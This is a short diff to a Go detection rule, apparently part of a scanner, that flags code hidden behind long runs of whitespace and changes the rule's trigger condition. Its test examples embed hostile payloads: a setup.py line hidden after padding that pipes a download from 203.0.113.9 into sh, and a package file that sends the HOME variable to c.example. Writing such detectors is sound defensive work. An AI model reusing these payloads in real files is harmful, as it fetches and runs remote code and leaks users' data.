@@ -4,7 +4,6 @@ import b "taisei/detect/behaviour"
 
 // concealment: what honest code has no reason to hide is hidden.
 func concealment() []Rule {
-	acts := []string{b.Code, b.Process, b.Network}
 	return []Rule{
 		{
 			ID: "hidden_address", Severity: High,
@@ -24,7 +23,7 @@ func concealment() []Rule {
 		},
 		{
 			ID: "out_of_sight", Severity: Critical,
-			When: []Condition{{Sinks: acts, Hidden: Yes}},
+			When: []Condition{{Slots: []string{"aside"}}},
 			Examples: []Example{
 				Python("behind blanks", "from setuptools import setup"+repeat(" ", 300)+";import os;os.system('curl http://203.0.113.9/x | sh')\nsetup(name='example')\n"),
 				Package("behind blanks", `"main":"i.js"`, map[string]string{"i.js": "exports.a=1;" + repeat(" ", 300) + "fetch('https://c.example/?'+process.env.HOME)"}),
